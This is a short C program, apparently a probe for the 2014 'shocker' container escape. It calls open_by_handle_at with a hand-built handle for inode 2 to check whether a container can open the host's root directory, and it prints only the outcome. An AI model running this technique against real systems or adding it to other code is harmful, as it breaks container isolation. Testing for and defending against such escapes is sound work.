// Runs in a container: tries to open a directory of the host by its handle, which needs no path, on
// the file system that its argument is on ("shocker", 2014).
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>

int main(int argc, char** argv) {
  union {
    struct file_handle handle;
    char space[sizeof(struct file_handle) + MAX_HANDLE_SZ];
  } root = {.handle = {.handle_bytes = 8, .handle_type = 1}};
  const int inode = 2;  // the root directory of an ext file system
  memcpy(root.handle.f_handle, &inode, sizeof inode);
  const int mount = open(argc > 1 ? argv[1] : "/", O_RDONLY);
  const int fd = open_by_handle_at(mount, &root.handle, O_RDONLY);
  puts(mount < 0 ? "no mount" : fd >= 0 ? "opened" : strerror(errno));
  return 0;
}
